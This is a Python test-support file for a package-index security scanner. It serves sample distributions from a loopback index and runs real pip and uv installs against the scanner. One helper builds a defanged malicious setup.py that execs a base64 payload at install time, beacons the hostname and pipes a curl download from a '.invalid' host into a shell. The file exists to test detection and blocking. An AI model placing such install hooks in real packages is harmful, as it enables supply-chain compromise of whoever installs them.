"""Shared test support for everything that talks to a package index: defanged sample
distributions, a static PEP 503/691 upstream on loopback, the gate (uvicorn) in a thread on an
ephemeral port, and real pip / uv runs confined to loopback.

Nothing here leaves 127.0.0.1. The malicious sample is an sdist whose setup.py would write a
marker file if it ran (its network calls go to ``.invalid`` hosts); tests check that the marker
never appears. The sample is never built or run by the tests themselves.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import uvicorn

from scanner.analyzers import Analyzer, registered
from scanner.gate import GateConfig, create_app
from scanner.model import Confidence, Context, Finding, Severity
from scanner.pipeline import ScanOptions
from scanner.testing import core_metadata, sdist_bytes, sdist_filename, wheel_bytes, wheel_filename

MARKER_ENV = "DISTSCAN_GATE_MARKER"
JSON_V1 = "application/vnd.pypi.simple.v1+json"
PIP_ACCEPT = f"{JSON_V1}, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01"


# -- samples -----------------------------------------------------------------------------------

def malicious_setup_py() -> str:
    """An install hook of the kind the Python analyser must call malicious: a base64 payload
    executed at install time that writes a file, beacons and pipes a download into a shell.
    Defanged: every host is under .invalid; the marker path comes from the environment."""
    payload = (
        "import os, urllib.request\n"
        f"open(os.environ.get({MARKER_ENV!r}, '/tmp/distscan-gate-marker'), 'w').write('ran')\n"
        "urllib.request.urlopen('http://collector.invalid/beacon?h=' + os.uname().nodename)\n"
        "os.system('curl -s http://collector.invalid/stage2.sh | sh')\n"
    )
    encoded = base64.b64encode(payload.encode()).decode()
    return ("import base64, os\n"
            "from setuptools import setup\n"
            f"exec(base64.b64decode({encoded!r}))\n"
            "os.system('curl -s http://collector.invalid/p.sh | sh')\n"
            "setup(name='evilpkg', version='2.0', packages=['evilpkg'])\n")


@dataclass
class Dist:
    project: str
    filename: str
    data: bytes
    requires_python: str | None = None
    yanked: bool | str = False
    metadata: bytes | None = None  # PEP 658 file
    upload_time: str = "2024-01-02T03:04:05.000000Z"
    tamper: bool = False  # serve other bytes than the published hash
    delay_s: float = 0.0  # the upstream waits this long before sending the file
    publish_hash: bool = True  # some simple indexes publish no hash at all

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.data).hexdigest()


def _wheel(name: str, version: str, body: str, **kw) -> Dist:
    module = name.replace("-", "_")
    data = wheel_bytes(name, version, {f"{module}/__init__.py": body})
    return Dist(name, wheel_filename(name, version), data,
                metadata=core_metadata(name, version).encode(), **kw)


def sample_dists() -> list[Dist]:
    evil = sdist_bytes("evilpkg", "2.0", {"setup.py": malicious_setup_py(),
                                          "evilpkg/__init__.py": "VERSION = '2.0'\n"})
    recent = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - 600))
    return [
        _wheel("demo-pkg", "1.0", "VERSION = '1.0'\n", requires_python=">=3.8"),
        _wheel("demo-pkg", "1.1", "VERSION = '1.1'\n", requires_python=">=3.8, <4"),
        _wheel("demo-pkg", "0.9", "VERSION = '0.9'\n", yanked="broken build"),
        _wheel("evilpkg", "1.0", "VERSION = '1.0'\n"),
        Dist("evilpkg", sdist_filename("evilpkg", "2.0"), evil),
        _wheel("tampered", "1.0", "VERSION = 'published'\n", tamper=True),
        _wheel("freshpkg", "1.0", "VERSION = '1.0'\n"),
        _wheel("freshpkg", "2.0", "VERSION = '2.0'\n", upload_time=recent),
        # A zip signature with nothing readable behind it: the scanner's verdict is `error`.
        Dist("broken", "broken-1.0-py3-none-any.whl", b"PK\x03\x04" + b"garbage" * 20),
        _wheel("racy", "1.0", "VERSION = 'racy'\n", delay_s=1.0),
        _wheel("nohash", "1.0", "VERSION = '1.0'\n", publish_hash=False),
    ]


# A stand-in for the Python analyser (ids python.*), so that the gate's blocking is tested
# whatever state that analyser is in: an install hook that execs a base64 payload.
def _exec_b64_install_hook(view):
    for path, data in view.texts.items():
        if path.endswith("setup.py") and b"exec(base64.b64decode(" in data:
            yield Finding("test.install.exec-b64", "execution", Severity.CRITICAL,
                          Confidence.HIGH, Context.INSTALL,
                          "setup.py executes a base64-decoded payload at install time", path, 3,
                          "exec(base64.b64decode(...))")


STAND_IN = Analyzer("test-stand-in", on_artifact=_exec_b64_install_hook)


# -- the upstream: a static PEP 503/691 index on loopback ------------------------------------

@dataclass
class Upstream:
    dists: list[Dist]
    credentials: tuple[str, str] | None = None
    requests: list[tuple[str, str, str]] = field(default_factory=list)  # method, path, auth
    server: ThreadingHTTPServer | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/simple/"

    def downloads(self, filename: str) -> int:
        return sum(1 for _, path, _ in self.requests if path == f"/files/{filename}")

    def project_json(self, project: str) -> dict:
        base = f"http://127.0.0.1:{self.server.server_address[1]}"
        files = []
        for d in self.dists:
            if d.project != project:
                continue
            item = {"filename": d.filename, "url": f"{base}/files/{d.filename}",
                    "hashes": {"sha256": d.sha256} if d.publish_hash else {},
                    "size": len(d.data),
                    "upload-time": d.upload_time}
            if d.requires_python:
                item["requires-python"] = d.requires_python
            if d.yanked:
                item["yanked"] = d.yanked
            if d.metadata is not None:
                item["core-metadata"] = {"sha256": hashlib.sha256(d.metadata).hexdigest()}
            files.append(item)
        versions = sorted({f["filename"].split("-")[1].removesuffix(".tar.gz") for f in files})
        return {"meta": {"api-version": "1.1"}, "name": project, "files": files,
                "versions": versions}

    def project_html(self, project: str) -> str:
        rows = []
        for d in self.dists:
            if d.project != project:
                continue
            attrs = f'href="../../files/{d.filename}#sha256={d.sha256}"'
            if d.requires_python:
                attrs += f' data-requires-python="{d.requires_python.replace(">", "&gt;")}"'
            if d.yanked:
                attrs += f' data-yanked="{d.yanked if isinstance(d.yanked, str) else ""}"'
            if d.metadata is not None:
                attrs += f' data-core-metadata="sha256={hashlib.sha256(d.metadata).hexdigest()}"'
            rows.append(f"<a {attrs}>{d.filename}</a><br/>")
        return "<!DOCTYPE html><html><body>" + "\n".join(rows) + "</body></html>"


def _handler(upstream: Upstream):
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args):  # keep test output quiet
            pass

        def do_GET(self):
            auth = self.headers.get("Authorization", "")
            upstream.requests.append(("GET", self.path, auth))
            if upstream.credentials:
                expected = "Basic " + base64.b64encode(
                    ":".join(upstream.credentials).encode()).decode()
                if auth != expected:
                    return self._send(401, "text/plain", b"auth required")
            path = self.path.split("?", 1)[0]
            projects = {d.project for d in upstream.dists}
            if path == "/simple/":
                body = json.dumps({"meta": {"api-version": "1.0"},
                                   "projects": [{"name": p} for p in sorted(projects)]})
                return self._send(200, JSON_V1, body.encode())
            if path.startswith("/simple/"):
                project = path[len("/simple/"):].strip("/")
                if project not in projects:
                    return self._send(404, "text/plain", b"no such project")
                if "json" in self.headers.get("Accept", ""):
                    body = json.dumps(upstream.project_json(project)).encode()
                    return self._send(200, JSON_V1, body)
                return self._send(200, "text/html", upstream.project_html(project).encode())
            if path.startswith("/files/"):
                name = path[len("/files/"):]
                for d in upstream.dists:
                    if name == d.filename:
                        time.sleep(d.delay_s)
                        data = d.data + b"tampered" if d.tamper else d.data
                        return self._send(200, "application/octet-stream", data)
                    if name == d.filename + ".metadata" and d.metadata is not None:
                        return self._send(200, "application/octet-stream", d.metadata)
            return self._send(404, "text/plain", b"not found")

        def _send(self, status, content_type, body):
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    return Handler


@contextlib.contextmanager
def running_upstream(dists: list[Dist], credentials=None) -> Iterator[Upstream]:
    upstream = Upstream(dists, credentials)
    upstream.server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(upstream))
    thread = threading.Thread(target=upstream.server.serve_forever, daemon=True)
    thread.start()
    try:
        yield upstream
    finally:
        upstream.server.shutdown()
        upstream.server.server_close()


# -- the gate: uvicorn in a thread on an ephemeral loopback port ------------------------------

@dataclass
class RunningGate:
    server: uvicorn.Server
    app: object

    @property
    def url(self) -> str:
        port = self.server.servers[0].sockets[0].getsockname()[1]
        return f"http://127.0.0.1:{port}"

    @property
    def index_url(self) -> str:
        return self.url + "/simple/"

    @property
    def gate(self):
        return self.app.state.gate


@contextlib.contextmanager
def running_gate(config: GateConfig) -> Iterator[RunningGate]:
    app = create_app(config)
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning",
                                           lifespan="on", access_log=False))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        if not thread.is_alive() or time.monotonic() > deadline:
            raise RuntimeError("the gate did not start")
        time.sleep(0.02)
    try:
        yield RunningGate(server, app)
    finally:
        server.should_exit = True
        thread.join(20)


def stand_in_config(index: Upstream, db: Path, **changes) -> GateConfig:
    options = ScanOptions(analyzers=(*registered(), STAND_IN))
    config = GateConfig(upstream=index.url, db_path=db, executor="thread", workers=2,
                        scan_timeout_s=30, operator_token="op-token", scan_options=options,
                        prescan_wait_s=10, prescan_keep_s=600, cooldown_hours=24)
    return replace(config, **changes)


# -- installers --------------------------------------------------------------------------------

def clean_env(tmp: Path) -> dict[str, str]:
    """The environment for pip/uv: no user config, no cache, no proxies, no extra indexes
    or find-links, so that the only place they can reach is the gate on loopback."""
    env = {k: v for k, v in os.environ.items()
           if not k.upper().startswith(("PIP_", "UV_", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"))}
    env.update({"PIP_NO_CACHE_DIR": "1", "PIP_CONFIG_FILE": os.devnull, "PIP_NO_INPUT": "1",
                "PIP_DISABLE_PIP_VERSION_CHECK": "1", "UV_NO_CACHE": "1", "UV_NO_CONFIG": "1",
                "UV_PYTHON_DOWNLOADS": "never", "NO_PROXY": "127.0.0.1,localhost",
                MARKER_ENV: str(tmp / "marker")})
    return env


def pip_install(index_url: str, tmp: Path, *requirements: str) -> subprocess.CompletedProcess:
    target = tmp / "pip-target"
    command = [sys.executable, "-m", "pip", "install", "--no-deps", "--no-build-isolation",
               "--retries", "0", "--timeout", "30", "--target", str(target),
               "--index-url", index_url, *requirements]
    return subprocess.run(command, env=clean_env(tmp), capture_output=True, text=True,
                          timeout=120)


def uv_binary() -> str:
    """distscan's own way of finding uv; the test is skipped where there is none."""
    from scanner.preinstall.installers import uv_binary as find_uv
    from scanner.preinstall.requirements import Refusal

    try:
        return find_uv()
    except Refusal:
        pytest.skip("uv is not installed (pip install uv; it is in the test extra)")


def uv_install(index_url: str, tmp: Path, *requirements: str) -> subprocess.CompletedProcess:
    target = tmp / "uv-target"
    command = [uv_binary(), "pip", "install", "--no-deps", "--no-build-isolation",
               "--python", sys.executable, "--target", str(target),
               "--index-url", index_url, *requirements]
    return subprocess.run(command, env=clean_env(tmp), capture_output=True, text=True,
                          timeout=120)


INSTALLERS = {"pip": pip_install, "uv": uv_install}


def installed_version(tmp: Path, installer: str, module: str) -> str:
    init = tmp / f"{installer}-target" / module / "__init__.py"
    return init.read_text().split("'")[1]


